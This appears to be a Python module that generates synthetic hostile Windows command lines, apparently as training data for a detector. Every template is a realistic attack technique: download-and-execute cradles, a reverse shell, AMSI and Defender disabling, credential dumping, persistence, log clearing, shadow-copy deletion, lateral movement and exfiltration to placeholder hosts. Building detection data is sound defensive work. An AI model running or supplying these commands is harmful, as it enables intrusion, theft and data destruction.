"""Grammars of hostile command lines of Windows, in the manners of different people and tools; written by us after public documentation."""

# ruff: noqa: E501 - a command is read as a whole

from __future__ import annotations

from random import Random

from vedette.learning.datasets.command_pieces import any_of, encoded, fill

_OPTIONS = "<<-nop|-NoP|-noprofile|>> <<-w hidden|-WindowStyle Hidden|-w 1|-win hid|>> <<-ep bypass|-ExecutionPolicy Bypass|-exec bypass|>> <<-noni|-NonI|-sta|>>"
_CLIENT = "<<(New-Object Net.WebClient)|(new-object system.net.webclient)|$c|([System.Net.WebClient]::new())>>"

SCRIPTS = (
    "IEX " + _CLIENT + ".DownloadString('{url}/{word}<<.ps1|.txt|>>')",
    "$c=New-Object System.Net.WebClient;$c.<<Proxy=[Net.WebRequest]::GetSystemWebProxy();$c.|>>DownloadString('{url}')|iex",
    "<<iex|Invoke-Expression|&('iex')>> (<<iwr|Invoke-WebRequest|irm|curl>> '{url}/{word}' <<-UseBasicParsing|-usebasic|>>)<<.Content|>>",
    "<<Invoke-WebRequest|iwr|wget>> {url}/{word}.exe -OutFile {temp}\\{word}.exe; <<Start-Process|start|&>> {temp}\\{word}.exe",
    _CLIENT
    + ".DownloadFile('{url}/{word}.<<exe|dll|hta>>','{temp}\\{word}.<<exe|dll|hta>>');<<Start-Process|Invoke-Item|saps>> '{temp}\\{word}.exe'",
    "$x=(New-Object -ComObject Msxml2.XMLHTTP);$x.open('GET','{url}',$false);$x.send();iex $x.responseText",
    "Start-BitsTransfer -Source {url}/{word}.exe -Destination {temp}\\{word}.exe;&{temp}\\{word}.exe",
    "$d=[Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('{url}'));[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,@(,@()))",
    "[System.Reflection.Assembly]::Load((iwr {url}/{word}.dat).Content).GetType('{word}').GetMethod('Run').Invoke($null,$null)",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA{hash}{hash}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
    "$k=Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);' -Name {word} -PassThru;$k::VirtualAlloc(0,0x1000,0x3000,0x40)",
    "$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "$c=New-Object Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$r=(iex ([Text.Encoding]::ASCII.GetString($b,0,$i)) 2>&1|Out-String);$s.Write(([text.encoding]::ASCII.GetBytes($r)),0,$r.Length)}",
    "Set-MpPreference <<-DisableRealtimeMonitoring $true|-DisableIOAVProtection 1|-MAPSReporting 0>>; Add-MpPreference -ExclusionPath <<C:\\|{temp}>>",
    "Import-Module {temp}\\{word}.ps1; <<Invoke-Mimikatz -DumpCreds|Invoke-Kerberoast -OutputFormat Hashcat|Invoke-AllChecks|Get-GPPPassword|Invoke-BloodHound -CollectionMethod All|Find-LocalAdminAccess>>",
    "$e=New-Object -ComObject Shell.Application;[activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')).item().Document.Application.ShellExecute('cmd.exe','/c {temp}\\{word}.exe')",
    "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','{inside}')).Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c {word}','7')",
    "Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/{host}.corp.example:1433'",
    "Get-Process lsass | Out-Minidump -DumpFilePath {temp}",
    "$r=[adsisearcher]'(serviceprincipalname=*)';$r.FindAll()|%{$_.Properties.samaccountname}|out-file {temp}\\{word}.txt",
    "1..254|%{Test-NetConnection 10.{d}.{d}.$_ -Port 445}|?{$_.TcpTestSucceeded}|Out-File {temp}\\{word}.txt",
    "Compress-Archive -Path C:\\Users\\{person}\\Documents -DestinationPath {temp}\\{word}.zip; (New-Object Net.WebClient).UploadFile('{url}','{temp}\\{word}.zip')",
    "$w=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='{word}';CommandLineTemplate='powershell -w hidden -c {word}'}",
    "Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete()}",
    "[Convert]::ToBase64String([IO.File]::ReadAllBytes('{temp}\\{word}.zip')) -split '(.{50})'|%{Resolve-DnsName \"$_.{word}.example.com\" -Type TXT}",
    "$b=(Get-ItemProperty 'HKCU:\\Software\\{word}').{word};for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x{hex}};[Reflection.Assembly]::Load($b)",
    "while($true){try{iex ((New-Object Net.WebClient).DownloadString('{url}'))}catch{};Start-Sleep -s {n}}",
    "Clear-EventLog -LogName Security,System; Remove-Item (Get-PSReadLineOption).HistorySavePath; Clear-History",
    "Add-Type -AssemblyName System.Windows.Forms;$g=[Drawing.Graphics]::FromImage($b);$g.CopyFromScreen(0,0,0,0,$b.Size);$b.Save('{temp}\\{word}.png')",
    "$cred=$host.ui.PromptForCredential('Windows','Enter your password',$env:username,'');$cred.GetNetworkCredential().Password|Out-File {temp}\\{word}.txt",
)

cradle = any_of(tuple(f'{{ps}} {_OPTIONS} <<-c|-Command|-C|>> "{s}"' for s in SCRIPTS))
_ENCODED = "{ps} " + _OPTIONS + " <<-e|-en|-enc|-EncodedCommand|-ec|-encod>> "


def encoder(rng: Random) -> str:
    """Hostile scripts, encoded; some behind a command prompt."""
    return fill(rng, "<<||cmd /c |{cmd} /b /c start /b /min >>" + _ENCODED) + encoded(fill(rng, rng.choice(SCRIPTS)))


def block(rng: Random) -> str:
    """Script blocks of several lines, hostile in some of them."""
    plain = ("$ErrorActionPreference = 'SilentlyContinue'", "$p = Join-Path $env:TEMP '{word}'", "function {word} {{", "}}", "$i = 0", "Write-Host '{word}'", "if (Test-Path $p) {{ Remove-Item $p }}", "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'", "param($a, $b)")  # fmt: skip
    lines = [rng.choice(plain) for _ in range(rng.randint(2, 8))] + [
        rng.choice(SCRIPTS) for _ in range(rng.randint(1, 3))
    ]
    rng.shuffle(lines)
    return "\n".join(fill(rng, line).replace("{{", "{").replace("}}", "}") for line in lines)


proxy = any_of(
    (
        "{sys}mshta<<.exe|>> {url}/{word}<<.hta|.html|>>",
        '{sys}mshta<<.exe|>> <<javascript:a=GetObject("script:{url}/{word}.sct").Exec();close();|vbscript:Close(Execute("CreateObject(""WScript.Shell"").Run ""{ps} -w hidden"",0"))|"{temp}\\{word}.hta">>',
        "{sys}regsvr32<<.exe|>> /s /n /u /i:{url}/{word}.sct scrobj.dll",
        "{sys}regsvr32<<.exe|>> <</s|-s|/s /u>> {temp}\\{word}.<<dll|jpg|dat|tmp|ocx>>",
        '{sys}rundll32<<.exe|>> javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:{url}")',
        "{sys}rundll32<<.exe|>> {temp}\\{word}.<<dll|dat|tmp|png|log>>,<<{word}|#1|DllRegisterServer|Start|#{d}>>",
        "{sys}rundll32<<.exe|>> <<url.dll,OpenURL|url.dll,FileProtocolHandler|ieframe.dll,OpenURL|shdocvw.dll,OpenURL|zipfldr.dll,RouteTheCall|pcwutl.dll,LaunchApplication>> {temp}\\{word}.<<exe|hta|url>>",
        "{sys}rundll32<<.exe|>> advpack.dll,LaunchINFSection {temp}\\{word}.inf,DefaultInstall_SingleUser,1,",
        "{sys}rundll32<<.exe|>> setupapi.dll,InstallHinfSection DefaultInstall 128 {temp}\\{word}.inf",
        "{sys}rundll32<<.exe|>> \\\\{ip}@{port}\\{word}\\{word}.dll,{word}",
        "{sys}msiexec<<.exe|>> <</q|/quiet|/qn>> /i {url}/{word}.msi",
        "{sys}msiexec<<.exe|>> /y {temp}\\{word}.dll",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe {temp}\\{word}.<<xml|csproj|txt>>",
        "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U {temp}\\{word}.<<exe|dll>>",
        "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\<<regasm|regsvcs>>.exe /U {temp}\\{word}.dll",
        "{sys}cmstp<<.exe|>> /s <</ni|/au|>> {temp}\\{word}.inf",
        '{sys}odbcconf<<.exe|>> /S /A {REGSVR "{temp}\\{word}.dll"}',
        "{sys}control<<.exe|>> {temp}\\{word}.<<cpl|dll|txt:{word}.dll>>",
        "{sys}mavinject<<.exe|>> {n} /INJECTRUNNING {temp}\\{word}.dll",
        "{sys}hh<<.exe|>> {url}/{word}.chm",
        '{sys}wmic<<.exe|>> os get /format:"<<{url}/{word}.xsl|{temp}\\{word}.xsl>>"',
        '{sys}wmic<<.exe|>> process call create "<<{cmd} /c {temp}\\{word}.bat|{temp}\\{word}.exe|{ps} -enc SQBFAFgA>>"',
        '{sys}forfiles<<.exe|>> /p c:\\windows\\system32 /m notepad.exe /c "<<cmd /c {temp}\\{word}.exe|{ps} -w hidden {word}>>"',
        "{sys}pcalua<<.exe|>> -a {temp}\\{word}.<<exe|cpl|bat>>",
        "{sys}<<wscript|cscript>><<.exe|>> <<//b|//e:vbscript|//nologo|>> {temp}\\{word}.<<vbs|js|wsf|txt|jse>>",
        "{sys}<<wscript|rundll32>> C:\\{word}\\{word}.txt:{word}.<<vbs|dll,{word}>>",
        'SyncAppvPublishingServer.vbs "n; iex (iwr {url})"',
        "{sys}msdt.exe /id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=cal?c IT_LaunchMethod=ContextMenu IT_BrowseForFile=h$(iex('{word}'))i/../../{word}.exe\"",
        "{sys}xwizard<<.exe|>> RunWizard {{guid}}",
        "{sys}verclsid.exe /S /C {{guid}}",
        "{sys}cmd /c start /min {temp}\\{word}.<<exe|scr|pif|bat>>",
        "{temp}\\{word}.<<pdf|docx|jpg>>.exe",
        "C:\\Users\\Public\\{word}.exe <<|-k|/s|{ip} {port}>>",
        "{sys}certoc.exe -LoadDLL {temp}\\{word}.dll",
    )
)

fetcher = any_of(
    (
        "{sys}certutil<<.exe|>> -urlcache <<-split|>> -f {url}/{word}.<<exe|dll|txt|ps1>> {temp}\\{word}.<<exe|dll|ps1>>",
        "{sys}certutil<<.exe|>> -verifyctl -f -split {url}/{word}",
        "{sys}certutil<<.exe|>> <<-decode|-decodehex|/decode>> {temp}\\{word}.<<txt|b64|crt>> {temp}\\{word}.<<exe|dll>>",
        "{sys}bitsadmin<<.exe|>> /transfer {word} <</download|/priority high|>> {url}/{word}.exe {temp}\\{word}.exe",
        "{sys}bitsadmin<<.exe|>> /create {word} & bitsadmin /addfile {word} {url}/{word}.exe {temp}\\{word}.exe & bitsadmin /resume {word}",
        "{sys}bitsadmin<<.exe|>> /SetNotifyCmdLine {word} {temp}\\{word}.exe NULL",
        "{cmd} /c <<curl|curl.exe>> <<-s|-L|-k|>> {url}/{word}.exe -o {temp}\\{word}.exe && {temp}\\{word}.exe",
        "{cmd} /c {ps} -c \"(New-Object Net.WebClient).DownloadFile('{url}/{word}.exe','{temp}\\{word}.exe')\" & start {temp}\\{word}.exe",
        "{sys}certreq -Post -config {url} c:\\windows\\win.ini {temp}\\{word}.txt",
        "{sys}desktopimgdownldr.exe /lockscreenurl:{url}/{word}.exe /eventName:{word}",
        '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -DownloadFile -url {url}/{word}.exe -path {temp}\\{word}.exe',
        "{sys}esentutl.exe /y \\\\{ip}\\{word}\\{word}.exe /d {temp}\\{word}.exe /o",
        "{sys}finger {word}@{ip} | more +2 | {cmd}",
        "{cmd} /c echo open {ip} {port}> {temp}\\{word}.txt & ftp -s:{temp}\\{word}.txt & start {temp}\\{word}.exe",
        "{cmd} /c copy \\\\{ip}\\{word}\\{word}.exe {temp}\\{word}.exe & {temp}\\{word}.exe",
    )
)

dumper = any_of(
    (
        "{sys}rundll32<<.exe|>> <<{sys}|>>comsvcs.dll<<,| >><<MiniDump|#24|#+000024>> {n} {temp}\\{word}.<<dmp|bin|log>> full",
        "<<{temp}\\|>><<procdump|procdump64|pd>>.exe <<-accepteula|>> -ma <<lsass.exe|lsass|{n}>> {temp}\\{word}.dmp",
        '{cmd} /c tasklist /fi "imagename eq lsass.exe" & rundll32 comsvcs.dll, MiniDump {n} {temp}\\lsass.dmp full',
        '{temp}\\{word}.exe "privilege::debug" "<<sekurlsa::logonpasswords|lsadump::sam|lsadump::lsa /patch|sekurlsa::tickets /export|lsadump::dcsync /user:krbtgt>>" exit',
        "{temp}\\{word}.exe <<asktgt /user:{person} /rc4:{hash} /ptt|kerberoast /outfile:{word}.txt|asreproast /nowrap|dump /service:krbtgt /nowrap|s4u /user:{host}$ /rc4:{hash} /impersonateuser:administrator>>",
        "{sys}reg<<.exe|>> save hklm\\<<sam|security|system>> {temp}\\{word}.<<hive|save|dat|>>",
        "{cmd} /c reg save HKLM\\SAM {temp}\\sam & reg save HKLM\\SYSTEM {temp}\\sys & reg save HKLM\\SECURITY {temp}\\sec",
        '{sys}ntdsutil<<.exe|>> "ac i ntds" "ifm" "create full {temp}\\{word}" q q',
        "{sys}vssadmin<<.exe|>> create shadow /for=C: && copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{d}\\Windows\\NTDS\\ntds.dit {temp}\\{word}.dit",
        "{cmd} /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{d}\\Windows\\System32\\config\\<<SAM|SYSTEM|SECURITY>> {temp}",
        "{sys}esentutl<<.exe|>> /y /vss c:\\windows\\ntds\\ntds.dit /d {temp}\\{word}.dit",
        "{sys}diskshadow<<.exe|>> /s {temp}\\{word}.txt",
        "{sys}wmic shadowcopy call create Volume='C:\\'",
        '{sys}vaultcmd<<.exe|>> /listcreds:"Windows Credentials" <</all|>>',
        "{sys}rundll32<<.exe|>> keymgr.dll,KRShowKeyMgr",
        "{sys}findstr<<.exe|>> /si <<password|cpassword|pwd=>> <<*.xml *.ini *.txt|\\\\{domain}\\sysvol\\*.xml|c:\\users\\*.config>>",
        "{sys}reg<<.exe|>> query <<HKLM|HKCU>> /f password /t REG_SZ /s",
        "{sys}netsh<<.exe|>> wlan show profile name={word} key=clear",
        "C:\\Windows\\System32\\inetsrv\\appcmd.exe list apppool /@t:* /text:processmodel.<<password|username>>",
        '{cmd} /c copy "C:\\Users\\{person}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" {temp}\\{word}',
        "{sys}setspn<<.exe|>> -T {domain} -Q */*",
        "{temp}\\{word}.exe <<all -oN|browsers -v>> && lazagne.exe all",
        "{sys}rdrleakdiag.exe /p {n} /o {temp} /fullmemdmp /wait 1",
        "{sys}cmdkey /list",
    )
)

keeper = any_of(
    (
        '{sys}reg<<.exe|>> add <<HKCU|HKLM>>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run<<Once|>> /v {word} /t REG_SZ /d "<<{temp}\\{word}.exe|{ps} -w hidden -enc {hash}|rundll32 {temp}\\{word}.dll,{word}|wscript {temp}\\{word}.vbs>>" /f',
        "{ps} -c \"Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name {word} -Value '{temp}\\{word}.exe'\"",
        '{sys}schtasks<<.exe|>> /create <</f|>> /tn "{word}" /tr "<<{temp}\\{word}.exe|{ps} -w hidden -c iex(iwr {url})|mshta {url}|rundll32 {temp}\\{word}.dll,{word}|cmd /c {temp}\\{word}.bat>>" /sc <<onlogon|minute /mo {d}|daily /st {time}|onstart>> <</ru system|/ru "NT AUTHORITY\\SYSTEM"|/rl highest|>>',
        "{sys}schtasks<<.exe|>> /create /tn {word} /xml {temp}\\{word}.xml /f",
        '{sys}sc<<.exe|>> create {word} binPath= "<<{temp}\\{word}.exe|cmd /c {ps} -nop -w hidden -enc {hash}|%COMSPEC% /c echo {word} ^> \\\\.\\pipe\\{word}>>" start= auto <<&& sc start {word}|>>',
        '{sys}sc<<.exe|>> config <<Fax|{word}|UsoSvc>> binpath= "<<cmd /c net user {word} {word}1! /add|{temp}\\{word}.exe>>"',
        '{sys}sc<<.exe|>> failure {word} command= "{temp}\\{word}.exe" actions= run/1000',
        "{sys}sc<<.exe|>> sdset {word} D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)",
        '{sys}reg<<.exe|>> add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\<<sethc|utilman|osk|magnify>>.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f',
        '{sys}reg<<.exe|>> add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v <<Shell|Userinit>> /d "explorer.exe,{temp}\\{word}.exe" /f',
        "{cmd} /c <<copy|move>> <</y|>> C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\<<sethc|utilman|osk>>.exe",
        '{cmd} /c copy {temp}\\{word}.<<exe|vbs|lnk|bat>> "C:\\Users\\{person}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{word}.lnk"',
        "{sys}wmic<<.exe|>> /namespace:\\\\root\\subscription PATH <<CommandLineEventConsumer CREATE Name={word}, CommandLineTemplate={temp}\\{word}.exe|__EventFilter CREATE Name={word}, QueryLanguage=WQL>>",
        "{sys}reg<<.exe|>> add HKCU\\Environment /v UserInitMprLogonScript /t REG_SZ /d {temp}\\{word}.bat /f",
        "{sys}reg<<.exe|>> add HKCU\\Software\\Classes\\CLSID\\{{guid}}\\InprocServer32 /ve /d {temp}\\{word}.dll /f",
        '{sys}reg<<.exe|>> add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d {temp}\\{word}.scr /f',
        "{sys}netsh<<.exe|>> add helper {temp}\\{word}.dll",
        '{sys}reg<<.exe|>> add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "<<Security|Notification|Authentication>> Packages" /t REG_MULTI_SZ /d {word} /f',
        "{cmd} /c net user {word} {word}{n}! /add && net localgroup administrators {word} /add",
        '{sys}net<<1|>><<.exe|>> localgroup <<administrators|"Remote Desktop Users">> {word} /add',
        '{sys}reg<<.exe|>> add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v {word} /t REG_DWORD /d 0 /f',
        "{sys}at {time} /every:M,T,W {temp}\\{word}.bat",
        "{ps} -c \"Add-Content $profile 'Start-Process {temp}\\{word}.exe'\"",
    )
)

blinder = any_of(
    (
        "{ps} <<-c|-Command|>> \"<<Set-MpPreference -DisableRealtimeMonitoring $true|Add-MpPreference -ExclusionPath '{temp}'|Set-MpPreference -DisableIOAVProtection $true -MAPSReporting Disabled|Uninstall-WindowsFeature -Name Windows-Defender>>\"",
        '{sys}reg<<.exe|>> add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
        "{sys}sc<<.exe|>> <<stop|delete>> <<WinDefend|Sense|Sysmon64|MBAMService|SepMasterService|CSFalconService|wscsvc|EventLog>>",
        '{sys}net<<1|>> stop "<<Windows Defender Firewall|Security Center|SQL Backup|Veeam Backup Service|Volume Shadow Copy|Sophos Agent|MpsSvc>>" /y',
        "{sys}taskkill<<.exe|>> /f /im <<MsMpEng|CSFalcon|SentinelAgent|ekrn|avp|sophosui|veeam.backup.service>>.exe",
        "{sys}netsh<<.exe|>> advfirewall set <<allprofiles|currentprofile|publicprofile>> state off",
        "{sys}netsh<<.exe|>> firewall set opmode disable",
        '{sys}netsh<<.exe|>> advfirewall firewall add rule name="{word}" dir=in action=allow program="{temp}\\{word}.exe"',
        "{sys}netsh<<.exe|>> interface portproxy add v4tov4 listenport={port} listenaddress=0.0.0.0 connectport={port} connectaddress={inside}",
        "{sys}auditpol<<.exe|>> <</set /category:* /success:disable /failure:disable|/clear /y|/remove /allusers>>",
        '{sys}wevtutil<<.exe|>> <<cl|clear-log>> <<Security|System|Application|"Windows PowerShell"|Microsoft-Windows-Sysmon/Operational>>',
        '{cmd} /c for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"',
        "{sys}wevtutil<<.exe|>> sl Security /e:false",
        "{sys}logman<<.exe|>> stop <<EventLog-Application|{word}>> -ets",
        "{sys}fsutil<<.exe|>> usn deletejournal /D C:",
        "{sys}fltmc<<.exe|>> unload <<SysmonDrv|{word}Drv security>>",
        "{sys}reg<<.exe|>> add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
        '{sys}reg<<.exe|>> add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        "{sys}reg<<.exe|>> add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v <<EnableLUA /t REG_DWORD /d 0|LocalAccountTokenFilterPolicy /t REG_DWORD /d 1|ConsentPromptBehaviorAdmin /t REG_DWORD /d 0>> /f",
        "{sys}attrib<<.exe|>> +h +s {temp}\\{word}.exe",
        "{cmd} /c ping 127.0.0.1 -n {d} > nul & del /f /q {temp}\\{word}.exe",
        "{sys}icacls<<.exe|>> {temp} /grant Everyone:F /T",
        "{ps} -c \"(Get-Item {temp}\\{word}.exe).LastWriteTime = '{date}'; (Get-Item {temp}\\{word}.exe).CreationTime = '{date}'\"",
        "{cmd} /c copy C:\\Windows\\System32\\<<certutil|cmd|powershell|mshta>>.exe {temp}\\{word}.exe",
        '{sys}reg<<.exe|>> add HKCU\\Software\\Classes\\<<ms-settings\\shell\\open\\command|mscfile\\shell\\open\\command|exefile\\shell\\runas\\command>> /ve /d "{cmd} /c {temp}\\{word}.exe" /f',
        '{sys}reg<<.exe|>> add HKCU\\Environment /v windir /d "cmd /c {temp}\\{word}.exe && REM " /f',
        "{cmd} /c {sys}<<fodhelper|computerdefaults|wsreset>>.exe",
        "{sys}bcdedit<<.exe|>> /set {default} <<safeboot minimal|testsigning on|nointegritychecks on>>",
    )
)

destroyer = any_of(
    (
        "{sys}vssadmin<<.exe|>> delete shadows /all /quiet",
        "{sys}vssadmin<<.exe|>> resize shadowstorage /for=c: /on=c: /maxsize=401MB",
        "{sys}wmic<<.exe|>> shadowcopy <<delete|where \"ID like '%%'\" delete>> <</nointeractive|>>",
        "{sys}wbadmin<<.exe|>> delete <<catalog -quiet|systemstatebackup -keepVersions:0|backup>>",
        "{sys}bcdedit<<.exe|>> /set {default} <<recoveryenabled no|bootstatuspolicy ignoreallfailures>>",
        "{cmd} /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet",
        '{ps} -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"',
        "{sys}cipher /w:C:",
        "{cmd} /c del /f /s /q C:\\*.<<bak|vhd|bkf>> & del /s /f /q C:\\Users\\{person}\\Documents\\*",
        "{sys}reagentc<<.exe|>> /disable",
        "{cmd} /c net stop vss /y & net stop SQLWriter /y & taskkill /f /im sqlservr.exe & sc config VSS start= disabled",
        "{sys}diskshadow /s {temp}\\{word}.txt & vssadmin delete shadows /all",
    )
)

scout = any_of(
    (
        "{cmd} /c whoami /all & ipconfig /all & net user & net localgroup administrators & systeminfo > {temp}\\{word}.txt",
        '{cmd} /c <<whoami|hostname>> && <<net group "domain admins" /domain|nltest /dclist:{domain}>> && <<tasklist /svc|netstat -ano>>',
        "{sys}nltest<<.exe|>> <</domain_trusts /all_trusts|/dclist:{domain}|/trusted_domains>>",
        '{sys}net<<1|>> group "<<Domain Admins|Enterprise Admins|Domain Controllers|Exchange Trusted Subsystem>>" /do<<main|>>',
        '<<{temp}\\|>>adfind<<.exe|>> -f "(objectcategory=<<computer|person|group|trustDomain>>)" <<> {word}.txt|-csv>>',
        "{temp}\\{word}.exe -c All --zipfilename {word} -d corp.example",
        "{temp}\\SharpHound.exe -c <<All|DCOnly>> --outputdirectory {temp}",
        "{temp}\\<<Seatbelt|winPEAS|SharpUp|ADRecon>>.exe <<-group=all|audit|quiet>>",
        "{sys}wmic<<.exe|>> /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName,pathToSignedProductExe",
        '{sys}dsquery<<.exe|>> * -filter "(objectclass=<<user|computer>>)" -attr name -limit 0',
        '{cmd} /c for /l %i in (1,1,254) do @ping -n 1 -w 100 10.{d}.{d}.%i | find "TTL"',
        "{cmd} /c net view /all /domain & net share & arp -a & route print >> {temp}\\{word}.txt",
        "{cmd} /c dir /s /b C:\\Users\\*.kdbx C:\\Users\\*.rdp C:\\Users\\*pass* > {temp}\\{word}.txt",
        "{sys}wmic /node:{inside} /user:{domain}\\{person} /password:{word} process list brief",
    )
)

mover = any_of(
    (
        "cmd.exe /Q /c <<cd \\|whoami|dir|ipconfig /all|tasklist>> 1> \\\\127.0.0.1\\<<ADMIN$|C$>>\\__{big}.{n} 2>&1",
        "%COMSPEC% /Q /c echo <<whoami|dir|net user>> ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
        "<<{temp}\\|>><<psexec|PsExec64|paexec>>.exe \\\\{host} <<-accepteula|>> -u {domain}\\{person} -p {word} <<-s|-h|>> <<cmd|{cmd} /c {temp}\\{word}.exe>>",
        '{sys}wmic<<.exe|>> /node:<<{inside}|{host}>> <</user:{person} /password:{word}|>> process call create "<<{cmd} /c {temp}\\{word}.exe|{ps} -enc {hash}>>"',
        '{sys}sc<<.exe|>> \\\\{host} create {word} binpath= "<<C:\\Windows\\{word}.exe|cmd /c {word}>>"',
        "{sys}sc<<.exe|>> \\\\{host} start {word}",
        "{sys}schtasks<<.exe|>> /create /s {host} /u {domain}\\{person} /p {word} /tn {word} /tr {temp}\\{word}.exe /sc once /st {time}",
        "{sys}winrs<<.exe|>> -r:{host} <<-u:{person} -p:{word}|>> <<cmd /c {word}|whoami>>",
        "{sys}net<<.exe|>> use \\\\{inside}\\<<C$|ADMIN$|IPC$>> {word} /user:{domain}\\{person} && copy {temp}\\{word}.exe \\\\{inside}\\C$\\Windows\\Temp",
        "{cmd} /c copy {temp}\\{word}.<<exe|dll>> \\\\{host}\\<<ADMIN$|C$\\Windows\\Temp>>\\{word}.exe",
        '{ps} -c "Invoke-Command -ComputerName {host} -ScriptBlock {iex (iwr {url})}"',
        "{ps} -c \"Invoke-WmiMethod -ComputerName {host} -Class Win32_Process -Name Create -ArgumentList '{temp}\\{word}.exe'\"",
        "{cmd} /c echo {word} > \\\\.\\pipe\\{word}",
        "{sys}rundll32.exe {temp}\\{word}.dll,a /p:{word} \\\\.\\pipe\\{word}",
        "{sys}tscon<<.exe|>> {d} /dest:rdp-tcp#{d}",
        "\\\\tsclient\\<<C|{word}>>\\{word}.exe",
        "{sys}mstsc<<.exe|>> /restrictedadmin /v:{inside}",
        "{temp}\\{word}.exe -u {person} -H {hash} {inside} && secretsdump.py {domain}/{person}@{inside}",
        "<<{temp}\\|>>plink<<.exe|>> -ssh -l {person} -pw {word} -R {port}:127.0.0.1:3389 {ip}",
        "{temp}\\{word}.exe client {ip}:{port} R:socks && chisel client {ip}:{port} R:{port}:socks",
        "{temp}\\ngrok.exe tcp 3389",
        "{temp}\\<<nc|ncat|nc64>>.exe <<-e cmd.exe {ip} {port}|{ip} {port} -e powershell|-lvp {port} -e cmd.exe>>",
        "{temp}\\rclone.exe copy \\\\{host}\\{word} {word}:{word} --include *.{pdf,docx} -P",
        "{sys}rundll32 davclnt.dll,DavSetCookie {ip} {url}",
        "<<{temp}\\|>><<rar|7z>>.exe a -<<hp|p>>{word} {temp}\\{word}.<<rar|7z>> C:\\Users\\{person}\\Documents",
        '{sys}curl.exe -F "file=@{temp}\\{word}.zip" {url}',
        "{temp}\\<<PrintSpoofer|JuicyPotato|GodPotato>>.exe -i -c cmd",
    )
)
